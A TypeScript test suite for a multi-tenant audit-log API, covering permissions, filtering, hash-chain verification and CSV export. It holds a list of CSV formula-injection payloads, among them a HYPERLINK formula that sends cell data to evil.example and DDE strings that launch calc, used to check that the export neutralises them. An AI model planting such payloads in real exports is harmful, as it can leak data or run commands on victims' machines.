import type { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { functionRuntime } from '../../../shared/aws/runtime.js';
import { canonicalJson } from '../../../shared/domain/audit-chain.js';
import { AUDIT_CSV_COLUMNS, unneutraliseCell } from '../../../shared/domain/audit-csv.js';
import type { AuditEventInput } from '../../../shared/domain/audit-events.js';
import { mintTenantScope } from '../../../shared/domain/tenant-scope.js';
import { AuditService } from '../../../shared/services/audit.js';
import type { AuditStore } from '../../../shared/store/audit-store.js';
import { type TenantWithRoles, tenantWithEveryRole } from '../../support/identity-fixtures.js';
import { useTestApi } from '../../support/local-api.js';
import { itemsOf, overwrite, provisionedAuditStore, provisionedSequencer } from './support.js';

const api = useTestApi();
let tenant: TenantWithRoles;
let other: TenantWithRoles;
let store: AuditStore;
let db: DynamoDBDocumentClient;

const path = (tenantId: string, suffix = '') => `/v1/tenants/${tenantId}/audit-events${suffix}`;

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  'comma, "quote" and\r\nnewline',
  'ünïcödé 😀',
];

beforeAll(async () => {
  tenant = await tenantWithEveryRole(api, 'Audited');
  other = await tenantWithEveryRole(api, 'Elsewhere');
  store = provisionedAuditStore();
  db = functionRuntime().dynamo;
});

describe('audit routes: who may call them', () => {
  it('lets reviewer and above read; a viewer gets 403', async () => {
    // Act / Assess: a viewer reads and verifies
    const viewer = await api.request('GET', path(tenant.tenantId), { token: tenant.users.viewer.token });
    expect(viewer.status).toBe(403);
    expect(
      (await api.request('GET', path(tenant.tenantId, '/verify'), { token: tenant.users.viewer.token }))
        .status,
    ).toBe(403);

    // Act / Assess: each role from reviewer up reads
    for (const role of ['reviewer', 'editor', 'admin', 'owner'] as const) {
      const res = await api.request('GET', path(tenant.tenantId), { token: tenant.users[role].token });
      expect(res.status, role).toBe(200);
    }
  });

  it('lets admin and above export; an editor gets 403 and only the refusal is recorded', async () => {
    // Prepare: the events so far, sequenced
    await provisionedSequencer().sequence(tenant.tenantId);
    const before = await itemsOf(db, tenant.tenantId, 'EVENT#');

    // Act
    const editor = await api.request('GET', path(tenant.tenantId, '/export'), {
      token: tenant.users.editor.token,
    });

    // Assess: refused, and only the refusal recorded
    expect(editor.status).toBe(403);
    const written = (await itemsOf(db, tenant.tenantId, 'EVENT#')).slice(before.length);
    expect(written).toHaveLength(1);
    expect(written[0]).toMatchObject({
      action: 'auth.action.refused',
      actor: { userId: tenant.users.editor.userId },
      details: { route: 'exportAuditEvents', reason: 'permission-missing', permission: 'audit:export' },
    });

    // Act / Assess: an admin exports
    const admin = await api.request('GET', path(tenant.tenantId, '/export'), {
      token: tenant.users.admin.token,
    });
    expect(admin.status).toBe(200);
  });

  it("answers 404 to another tenant's owner on every audit route", async () => {
    // Act / Assess
    for (const suffix of ['', '/export', '/verify']) {
      const res = await api.request('GET', path(tenant.tenantId, suffix), { token: other.users.owner.token });
      expect(res.status, suffix).toBe(404);
    }
  });

  it('answers 400 naming the field for bad filters and a forged cursor', async () => {
    // Prepare
    const token = tenant.users.owner.token;
    const bad = async (query: string) =>
      (await api.request('GET', `${path(tenant.tenantId)}?${query}`, { token })).body;

    // Act / Assess: each bad filter, then another tenant's cursor
    expect((await bad('action=tenant.hacked')).errors[0].path).toBe('query.action');
    expect((await bad('since=yesterday')).errors[0].path).toBe('query.since');
    expect((await bad('since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z')).errors[0].path).toBe(
      'query.until',
    );
    expect((await bad('actor=admin')).errors[0].path).toBe('query.actor');
    expect((await bad('limit=1000')).errors[0].path).toBe('query.limit');
    const foreign = Buffer.from(JSON.stringify({ pk: other.tenantId, sk: 'EVENT#0' })).toString('base64url');
    expect((await bad(`cursor=${foreign}`)).errors[0].path).toBe('query.cursor');
  });
});

describe('audit routes: what they return', () => {
  it('shows the actions done through the API once each, in order, chained, with nothing pending', async () => {
    // Prepare: the fixtures created the tenant and invited four members through the API, who accepted.
    const token = tenant.users.reviewer.token;
    await provisionedSequencer().sequence(tenant.tenantId);

    // Act
    const page = await api.request('GET', `${path(tenant.tenantId)}?limit=100`, { token });
    const verify = await api.request('GET', path(tenant.tenantId, '/verify'), { token });

    // Assess
    expect(page.status).toBe(200);
    const oldestFirst = [...page.body.items].reverse();
    const actions = oldestFirst.map((e: any) => e.action).filter((a: string) => a !== 'audit.exported');
    // Each member was invited, then accepted (two events of one transaction, in either order).
    expect(actions[0]).toBe('tenant.created');
    expect(actions.slice(1, 13).sort()).toEqual(
      ['invitation.accepted', 'member.added', 'member.invited'].flatMap((a) => [a, a, a, a]),
    );
    const times = page.body.items.map((e: any) => e.time);
    expect(times).toEqual([...times].sort().reverse());
    const sequences = oldestFirst.map((e: any) => e.sequence);
    expect(sequences).toEqual(Array.from({ length: sequences.length }, (_, i) => i + 1));
    expect(page.body).toMatchObject({ pending: 0, oldestPendingAgeSeconds: 0 });
    expect(verify.body).toMatchObject({
      ok: true,
      complete: true,
      from: { sequence: 0 },
      pending: 0,
      checked: sequences.length,
    });
    expect(verify.body.nextCursor).toBeUndefined();
    expect(verify.body.head.sequence).toBe(sequences.length);
  });

  it('filters by action, actor and time and pages with a cursor without gaps or repeats', async () => {
    // Prepare
    const token = tenant.users.admin.token;
    const all = (await api.request('GET', `${path(tenant.tenantId)}?limit=100`, { token })).body.items;

    // Act
    const added = await api.request('GET', `${path(tenant.tenantId)}?action=member.added`, { token });
    const byOwner = await api.request('GET', `${path(tenant.tenantId)}?actor=${tenant.users.owner.userId}`, {
      token,
    });
    const pivot = all[2].time;
    const until = await api.request('GET', `${path(tenant.tenantId)}?until=${encodeURIComponent(pivot)}`, {
      token,
    });
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const res = await api.request(
        'GET',
        `${path(tenant.tenantId)}?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
        { token },
      );
      expect(res.status).toBe(200);
      seen.push(...res.body.items.map((e: any) => e.id));
      cursor = res.body.nextCursor;
    } while (cursor);

    // Assess
    expect(added.body.items).toHaveLength(4);
    expect(byOwner.body.items.every((e: any) => e.actor.userId === tenant.users.owner.userId)).toBe(true);
    expect(byOwner.body.items.length).toBeGreaterThanOrEqual(5);
    expect(until.body.items.every((e: any) => e.time <= pivot)).toBe(true);
    expect(until.body.items.length).toBe(all.filter((e: any) => e.time <= pivot).length);
    expect(seen).toEqual(all.map((e: any) => e.id));
  });

  it('exports hostile actors and details as CSV that parses back losslessly, holds no live formula and is audited', async () => {
    // Prepare
    const scope = mintTenantScope({ tenantId: tenant.tenantId, userId: tenant.users.owner.userId });
    const hostile: AuditEventInput[] = HOSTILE_NAMES.map((name, i) => ({
      action: 'connection.queried',
      actor: { userId: tenant.users.owner.userId, ip: i % 2 ? '-1.2.3.4' : '192.0.2.9', userAgent: name },
      resource: { type: name, id: `=${i}` },
      details: { name, nested: { formula: name, list: [name, i] } },
    }));
    for (const event of hostile) await store.record(scope, event);
    const token = tenant.users.admin.token;

    // Act
    const res = await api.request('GET', path(tenant.tenantId, '/export'), { token });

    // Assess
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-t_/);
    expect(res.text.endsWith('\r\n')).toBe(true);
    const rows = parse(res.text) as string[][];
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const byType = new Map(rows.slice(1).map((r) => [unneutraliseCell(r[8]!), r.map(unneutraliseCell)]));
    for (const event of hostile) {
      const row = byType.get(event.resource.type)!;
      expect(row[3]).toBe('connection.queried');
      expect(row[6]).toBe(event.actor.ip);
      expect(row[7]).toBe(event.actor.userAgent);
      expect(row[9]).toBe(event.resource.id);
      expect(JSON.parse(row[10]!)).toEqual(event.details);
      expect(row[10]).toBe(canonicalJson(event.details));
    }
    const exported = await api.request('GET', `${path(tenant.tenantId)}?action=audit.exported`, { token });
    const mine = exported.body.items.find((e: any) => e.actor.userId === tenant.users.admin.userId);
    expect(mine).toMatchObject({
      resource: { type: 'audit-log', id: tenant.tenantId },
      details: { complete: true },
    });
    expect(mine.details.rows).toBe(rows.length - 1);
  });

  it('continues an export past its row cap with a cursor, losing and repeating nothing', async () => {
    // Prepare: a service with a 4-row cap, the same store and caller shape the handler uses.
    const scope = mintTenantScope({ tenantId: tenant.tenantId, userId: tenant.users.admin.userId });
    const service = new AuditService({ store, maxExportRows: 4 });
    const caller = {
      access: { scope, roleCeiling: 'admin' as const, permissions: new Set<any>(['audit:export']) },
      principal: {
        kind: 'session' as const,
        userId: tenant.users.admin.userId,
        credentialId: 's_x',
        mfaEnabled: false,
      },
      ip: '192.0.2.1',
      userAgent: 'vitest',
    };
    const full = await service.exportCsv(caller, {});

    // Act
    const ids: string[] = [];
    let cursor: string | undefined;
    let parts = 0;
    do {
      const part = await service.exportCsv(caller, { since: full.since, until: full.until, cursor });
      const rows = parse(part.csv) as string[][];
      expect(rows.length - 1).toBeLessThanOrEqual(4);
      ids.push(...rows.slice(1).map((r) => r[1]!));
      cursor = part.nextCursor;
      parts++;
    } while (cursor);

    // Assess
    expect(full.nextCursor).toBeDefined();
    expect(parts).toBeGreaterThan(2);
    expect(new Set(ids).size).toBe(ids.length);
    const everything = (
      await (
        await store.readerFor(scope)
      ).page(
        { sinceMs: Date.parse(full.since), untilMs: Date.parse(full.until) },
        { limit: 100, descending: false },
      )
    ).items.map((e) => e.id);
    expect(ids).toEqual(everything);
  });

  it('verify through the API names the sequence of an event edited in the table', async () => {
    // Prepare
    const token = tenant.users.reviewer.token;
    await provisionedSequencer().sequence(tenant.tenantId);
    const chain = await itemsOf(db, tenant.tenantId, 'CHAIN#');
    const target = chain[2]!;
    const [event] = await itemsOf(db, tenant.tenantId, `EVENT#${target.eventId.slice(2)}`);

    // Act
    await overwrite(db, { ...event, details: { ...event!.details, after: { role: 'owner' } } });
    const res = await api.request('GET', path(tenant.tenantId, '/verify'), { token });

    // Assess
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      ok: false,
      firstBrokenSequence: 3,
      reason: 'hash-mismatch',
      checked: 2,
    });
    await overwrite(db, event!);
    expect((await api.request('GET', path(tenant.tenantId, '/verify'), { token })).body.ok).toBe(true);
  });

  it('verifies from the latest daily checkpoint with from=checkpoint', async () => {
    // Prepare: the daily job's checkpoint of the head, then one more chained event.
    const token = tenant.users.reviewer.token;
    await provisionedSequencer().sequence(tenant.tenantId);
    const sequencer = provisionedSequencer();
    const full = await sequencer.reader(tenant.tenantId).verify({ pendingWindowMs: 60_000 });
    await sequencer.checkpoint(tenant.tenantId, full.authenticHead!);
    await store.record(mintTenantScope({ tenantId: tenant.tenantId, userId: tenant.users.owner.userId }), {
      action: 'member.added',
      actor: { userId: tenant.users.owner.userId, ip: '192.0.2.1', userAgent: 'vitest' },
      resource: { type: 'member', id: 'u_after_checkpoint' },
    });
    await provisionedSequencer().sequence(tenant.tenantId);

    // Act
    const res = await api.request('GET', path(tenant.tenantId, '/verify?from=checkpoint'), { token });

    // Assess
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      ok: true,
      complete: true,
      checked: 1,
      from: { sequence: full.head.seq, checkpoint: new Date().toISOString().slice(0, 10) },
      head: { sequence: full.head.seq + 1 },
    });
  });

  it('refuses a malformed from or cursor, another tenant’s cursor and unknown parameters, naming the field', async () => {
    // Prepare: another tenant's chain cursor, and a cursor at an event instead of a chain record
    const token = tenant.users.reviewer.token;
    const foreign = Buffer.from(JSON.stringify({ pk: other.tenantId, sk: 'CHAIN#000000000002' })).toString(
      'base64url',
    );
    const notChain = Buffer.from(JSON.stringify({ pk: tenant.tenantId, sk: 'EVENT#x' })).toString(
      'base64url',
    );

    // Act / Assess
    for (const [query, field] of [
      ['from=everything', 'query.from'],
      ['cursor=%%%', 'query.cursor'],
      [`cursor=${foreign}`, 'query.cursor'],
      [`cursor=${notChain}`, 'query.cursor'],
      ['limit=5', 'query'],
    ] as const) {
      const res = await api.request('GET', path(tenant.tenantId, `/verify?${query}`), { token });
      expect(res.status, query).toBe(400);
      expect(JSON.stringify(res.body.errors), query).toContain(field);
    }
  });
});
